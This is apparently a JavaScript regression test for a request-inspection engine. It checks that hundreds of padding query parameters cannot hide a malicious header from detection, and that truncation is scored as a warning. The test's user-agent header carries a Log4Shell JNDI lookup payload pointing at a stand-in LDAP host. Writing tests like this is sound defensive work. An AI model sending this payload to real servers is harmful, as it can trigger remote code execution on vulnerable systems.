// Regression: 255+ padding parameters used to push every header out of inspection (review, 2026-11-24).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { makeRequestView } from '../../src/core/index.js';
import { createEngine } from '../../src/detect/index.js';

test('padding parameters cannot hide a header payload, and the truncation is reported', () => {
  const engine = createEngine();
  const query = Array.from({ length: 400 }, (_, i) => `a${i}=x`).join('&');
  const view = makeRequestView({ method: 'GET', path: '/', query, headers: { host: 'shop', 'user-agent': '${jndi:ldap://198.18.0.9/a}' } });
  const findings = engine.inspect(view, { maxFindings: 32 });
  assert.ok(findings.some((f) => f.class === 'log4shell'), JSON.stringify(findings.map((f) => f.rule)));
  assert.ok(findings.some((f) => f.rule === 'protocol-013'));
  // Truncation alone is a warning (3 points): it does not block a request by itself.
  const plain = makeRequestView({ method: 'GET', path: '/', query, headers: { host: 'shop', 'user-agent': 'Mozilla/5.0' } });
  const trunc = engine.inspect(plain, { maxFindings: 32 }).filter((f) => f.detector !== 'ml');
  assert.deepEqual(trunc.map((f) => [f.rule, f.score]), [['protocol-013', 3]]);
});
